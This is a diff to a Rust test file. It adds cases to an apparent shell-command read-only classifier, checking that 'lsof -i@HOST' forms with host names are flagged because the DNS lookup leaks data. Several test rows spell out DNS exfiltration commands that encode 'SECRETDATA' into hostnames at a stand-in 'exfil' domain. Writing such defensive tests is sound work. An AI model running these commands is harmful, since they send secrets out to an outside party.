@@ -298,3 +298,25 @@ fn tar_lists_with_options() {
     ];
     check(&fx, "", rows);
 }
+
+/// Class 13: `lsof -i@HOST` looks the host name up: DNS carries it out.
+#[test]
+fn lsof_host_names() {
+    let fx = Fixture::new();
+    #[rustfmt::skip]
+    let rows: &[(&str, bool, &str)] = &[
+        ("lsof -i@exfil-SECRETDATA.example.invalid",  false, "readonly.host_lookup"),
+        ("lsof -i @exfil.example.invalid",            false, "readonly.host_lookup"),
+        ("lsof -i tcp@exfil.example.invalid:443",     false, "readonly.host_lookup"),
+        ("lsof -ni@exfil.example.invalid",            false, "readonly.host_lookup"),
+        ("lsof -i '@[exfil]:80'",                     false, "readonly.host_lookup"),
+        // Controls: ports, protocols and addresses.
+        ("lsof -i :3000",                             true,  "readonly.flags:lsof"),
+        ("lsof -i tcp:443",                           true,  "readonly.flags:lsof"),
+        ("lsof -i @127.0.0.1",                        true,  "readonly.flags:lsof"),
+        ("lsof -i4@10.0.0.1:22",                      true,  "readonly.flags:lsof"),
+        ("lsof -i '@[::1]:8080'",                     true,  "readonly.flags:lsof"),
+        ("lsof -i",                                   true,  "readonly.flags:lsof"),
+    ];
+    check(&fx, "", rows);
+}
